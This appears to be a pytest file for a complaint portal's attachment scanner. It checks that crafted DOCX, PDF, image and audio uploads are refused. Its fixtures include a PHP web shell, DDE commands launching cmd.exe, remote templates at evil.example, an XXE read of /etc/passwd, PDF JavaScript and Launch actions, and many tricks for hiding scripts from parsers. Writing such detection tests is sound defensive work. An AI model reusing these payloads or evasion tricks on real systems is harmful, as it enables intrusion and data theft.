"""What an official would open and regret is refused by what it holds."""

import asyncio
import zlib
from pathlib import Path

import pytest

from complaints.attachments.antivirus import AntivirusFailedError, Clamd
from complaints.attachments.inspection.pictures import is_harmless_jpeg
from complaints.attachments.sniffing import (
    FileHarmfulError,
    FileKind,
    FileRejectedError,
    file_kind_of,
    inspected_kind,
)
from reports.documents.files import TEMPLATES
from tests.complaints.files import JPEG, PDF, VOICE, archive, docx, jpeg, png, voice
from tests.each import each_case

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)
PHP = b"<?php system($_GET['c']); ?>"


def word(types: str = "", relations: str = "", body: str = "", **parts: bytes) -> bytes:
    named = {
        name.replace("__", "/").replace("_bin", ".bin").replace("_xml", ".xml"): one
        for name, one in parts.items()
    }
    return archive(
        **{
            "[Content_Types].xml": TYPES.format(types).encode(),
            "word/document.xml": f'<w:document xmlns:w="w"><w:body>{body}</w:body></w:document>'.encode(),
            "word/_rels/document.xml.rels": RELATIONS.format(relations).encode(),
            **named,
        }
    )


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def field(*texts: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


WORD = {
    "a remote template": word(relations=relation("attachedTemplate", "https://evil.example/t.dotm")),
    "a template on a share": word(relations=relation("attachedTemplate", "\\\\10.0.0.1\\t.dotm")),
    "a template's coded target": word(relations=relation("attachedTemplate", "&#104;ttps://evil.example")),
    "an external picture": word(relations=relation("image", "https://evil.example/a.png")),
    "an external frame": word(relations=relation("frame", "https://evil.example/a.htm")),
    "a link to a file": word(relations=relation("hyperlink", "file:///c:/windows/calc.exe")),
    "a link to a handler": word(relations=relation("hyperlink", "ms-msdt:/id")),
    "an OLE object": word(relations=relation("oleObject", "a.bin", ""), word__embeddings__a_bin=OLE),
    "OLE under another name": word(word__media__image1_bin=OLE),
    "OLE as a picture": archive(
        **{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "word/a.png": OLE}
    ),
    "ActiveX": word(word__activeX__activeX1_xml=b"<ax:ocx/>"),
    "an ActiveX control": word(relations=relation("control", "x/a.xml", "")),
    "macros": word(word__vbaProject_bin=b"x"),
    "macros under another name": word(
        types='<Override PartName="/word/settings2.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        word__settings2_bin=b"x",
    ),
    "macros by relation": word(relations=f'<Relationship Type="{MICROSOFT}/vbaProject" Target="a.xml"/>'),
    "a document with macros": word(types='<Override ContentType="ms-word.document.macroEnabled.main+xml"/>'),
    "DDE": word(body=field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "DDE in pieces": word(body=field("D", "DE", "AU", "TO cmd")),
    "DDE in a simple field": word(body='<w:fldSimple w:instr="DDE excel a"/>'),
    "DDE in letters as numbers": word(body=field("&#68;&#68;E cmd")),
    "DDE with another prefix": word(body='<q:instrText xmlns:q="w">DDE cmd</q:instrText>'),
    "a text that is loaded": word(body=field('INCLUDETEXT "https://evil.example"')),
    "a picture that is loaded": word(body=field('INCLUDEPICTURE "https://evil.example/a.png"')),
    "external entities": word(word__a_xml=b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    "entities in UTF-16": word(word__a_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16")),
    "another file": word(word__program_exe=b"MZ"),
    "a chunk of HTML": word(relations=relation("aFChunk", "a.htm", ""), word__a_htm=b"<html>"),
    "a program before": b"MZ" + docx(),
    "a page behind": docx() + b"<html><script>alert(1)</script>",
    "a bomb": word(word__a_xml=b"<a>" + b" " * 90_000_000 + b"</a>"),
}  # fmt: skip


def pdf(objects: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj" + objects + b"endobj\ntrailer<<>>\n%%EOF\n"


def packed_objects(objects: bytes, named: bytes = b"/FlateDecode") -> bytes:
    body = zlib.compress(objects)
    return pdf(
        b"<</Type/ObjStm/N 1/First 4/Filter"
        + named
        + b"/Length %d>>stream\n%s\nendstream " % (len(body), body)
    )


SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


def objects_under(dictionary: bytes, word: bytes = b"stream\n", packed: bytes | None = None) -> bytes:
    """A script in packed objects whose dictionary or beginning a reader forgives."""
    body = packed or zlib.compress(b"5 0 " + SCRIPT)
    return pdf(b"<<" + dictionary + b">>" + word + body + b"\nendstream ")


_PACKED = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
FORGIVEN = {  # by readers, which go by places and not by what stands around
    "no type": objects_under(b"/N 1/First 4/Filter/FlateDecode"),
    "a comment in the type": objects_under(b"/Type%x\n/ObjStm/N 1/First 4/Filter/FlateDecode"),
    "a comment in the filter": objects_under(b"/Type/ObjStm/N 1/First 4/Filter%x\n/FlateDecode"),
    "a filter elsewhere": objects_under(b"/Type/ObjStm/N 1/First 4/Filter 7 0 R"),
    "a type far away": objects_under(_PACKED + b"/Pad(" + b"x" * 6_000 + b")"),
    "another object in a string": objects_under(_PACKED + b"/Pad(1 0 obj)"),
    "a rare filter behind such a string": objects_under(
        b"/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/Pad(1 0 obj)",
        packed=(b"5 0 " + SCRIPT).hex().encode() + b">",
    ),
    "a predictor": objects_under(_PACKED, packed=zlib.compress(b"\x025 0 9 " + SCRIPT)),
    "a space behind the word": objects_under(_PACKED, b"stream \n"),
    "an old end of line": objects_under(_PACKED, b"stream\r"),
    "words behind the word": objects_under(_PACKED, b"stream of words\n"),
    "an action between comments": pdf(b"<<%stream\n/OpenAction" + SCRIPT + b"%endstream\n>>"),
    "an action between strings": pdf(b"<</X(>>stream\n)/OpenAction" + SCRIPT + b"/Y(endstream)>>"),
    "an object within a stream": pdf(b"<<>>stream\n5 0 obj" + SCRIPT + b"endobj\nendstream "),
    "a coded one within a stream": pdf(b"<<>>stream\n5 0 obj<</S/Java#53cript>>endobj\nendstream "),
    "a hundred thousand streams": pdf(b"stream " * 100_001),
}
PORTABLE = FORGIVEN | {
    "a script": pdf(b"<</S/JavaScript/JS(app.alert(1))>>"),
    "a coded name": pdf(b"<</S/J#61v#61Script/J#53(a)>>"),
    "a script in packed objects": packed_objects(b"1 0 <</S/JavaScript/JS(a)>>"),
    "objects packed twice": packed_objects(b"1 0 <<>>", b"[/ASCIIHexDecode/FlateDecode]"),
    "a program to start": pdf(b"<</S/Launch/F(cmd.exe)>>"),
    "an attached file": pdf(b"<</Type/Filespec/EF<</F 2 0 R>>>><</EmbeddedFiles 3 0 R>>"),
    "a form that is sent": pdf(b"<</S/SubmitForm/F(http://evil.example)>>"),
    "XFA": pdf(b"<</AcroForm<</XFA 2 0 R>>>>"),
    "another document opened": pdf(b"<</S/GoToR/F(a.pdf)>>"),
    "encrypted": pdf(b"<</Encrypt 2 0 R>>"),
    "a program before": b"MZ\x90\0" + PDF,
    "a page before": b"<html><script>alert(1)</script>" + PDF,
    "a page within": b"%PDF-1.4\n<html><body onload=alert(1)>\n" + PDF,
    "a page behind": PDF + b"<html></html>",
    "an archive behind": PDF + archive(a=b"a"),
    "a script in a comment": b"%PDF-1.4\n%" + PHP + b"\n" + PDF,
    "no end": PDF[:-7],
}
PICTURES = {
    "PHP in a note": jpeg(PHP),
    "short PHP in a note": jpeg(b"<?=`$_GET[0]`?>"),
    "PHP behind": JPEG + PHP,
    "an archive behind": JPEG + archive(a=b"a"),
    "a program behind": JPEG + b"MZ\x90\0" + bytes(100),
    "HTML in a note": jpeg(b"<html><script>alert(1)</script>"),
    "nothing but a beginning": b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(40),
    "PHP in a PNG": png().replace(b"IEND", b"IEND")[:-12] + b"",
    "something behind a PNG": png() + PHP,
    "an archive behind a PNG": png() + archive(a=b"a"),
    "a huge PNG": png()[:16] + (60_000).to_bytes(4) * 2 + png()[24:],
}
SOUNDS = {
    "PHP in a recording": voice(body=PHP),
    "an archive behind": VOICE + archive(a=b"a"),
    "a page behind": VOICE + b"<html>",
    "a film": voice(head=b"\x80theora" + bytes(10)),
}
HARMLESS = {
    "a photo with notes": (jpeg(b"Exif\0\0II*\0", b"<?xpacket begin=''?><x:xmpmeta/>"), FileKind.JPEG),
    "a photo with a smaller one behind": (JPEG + b"\0" * 20 + JPEG, FileKind.JPEG),
    "a link in a document": (
        word(relations=relation("hyperlink", "https://egov.kz/a?b=1&amp;c=2")),
        FileKind.DOCX,
    ),
    "a page number": (word(body=field(" PAGE  \\* MERGEFORMAT ")), FileKind.DOCX),
    "a word like DDE": (word(body=field(' HYPERLINK "https://addendum.kz" ')), FileKind.DOCX),
    "a printer's settings": (word(word__printerSettings__printerSettings1_bin=b"H\0P\0"), FileKind.DOCX),
    "packed objects": (packed_objects(b"1 0 <</Type/Page/URI(https://egov.kz)>>"), FileKind.PDF),
    "few packed objects": (packed_objects(b"1 0 <<>>"), FileKind.PDF),
    "a page's lines": (
        objects_under(b"", packed=zlib.compress(b"1 0 0 1 72 720 cm BT (a) Tj ET")),
        FileKind.PDF,
    ),
    "a way to mix colours": (pdf(b"<</BM/Screen>>"), FileKind.PDF),
    "a page to open first": (pdf(b"<</OpenAction[3 0 R/FitH null]>>"), FileKind.PDF),
    "a voice": (VOICE, FileKind.VOICE),
}


def test_harmful_file_is_refused():
    kinds = {"word": WORD, "pdf": PORTABLE, "picture": PICTURES, "sound": SOUNDS}
    with each_case() as cases:
        for kind, files in kinds.items():
            for name, content in files.items():
                with cases.case(kind, name), pytest.raises(FileRejectedError):
                    file_kind_of(content)


def test_harmless_file_is_taken():
    with each_case() as cases:
        for name, (content, kind) in HARMLESS.items():
            with cases.case(name):
                assert file_kind_of(content) is kind
        for path in sorted(TEMPLATES.glob("*.docx")):  # made by python-docx, as a person's would be by Word
            with cases.case(path.name):
                assert file_kind_of(path.read_bytes()) is FileKind.DOCX


def test_photo_is_read_in_time():
    assert is_harmless_jpeg(JPEG[:-2] + b"\xff\x00" * 5_000_000 + b"\xff\xd9")


async def test_files_are_inspected_in_a_child():
    assert await inspected_kind(docx()) is FileKind.DOCX
    with pytest.raises(FileHarmfulError):
        await inspected_kind(WORD["DDE in pieces"])
    with pytest.raises(FileRejectedError) as refused:
        await inspected_kind(b"GIF89a")
    assert not isinstance(refused.value, FileHarmfulError)


async def test_antivirus_decides(tmp_path: Path):
    answers = {b"virus": b"stream: Eicar-Test-Signature FOUND\0", b"clean": b"stream: OK\0"}

    async def clamd(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        assert await reader.readexactly(10) == b"zINSTREAM\0"
        content = b""
        while length := int.from_bytes(await reader.readexactly(4)):
            content += await reader.readexactly(length)
        writer.write(answers.get(content, b"INSTREAM size limit exceeded. ERROR\0"))
        writer.close()

    path = str(tmp_path / "clamd.ctl")
    async with await asyncio.start_unix_server(clamd, path):
        await Clamd(path).check(b"clean")
        with pytest.raises(FileHarmfulError):
            await Clamd(path).check(b"virus")
        with pytest.raises(AntivirusFailedError):  # the file waits and is tried again
            await Clamd(path).check(b"x" * 200_000)
    with pytest.raises(OSError, match=r"connect|No such"):
        await Clamd(str(tmp_path / "nobody")).check(b"clean")
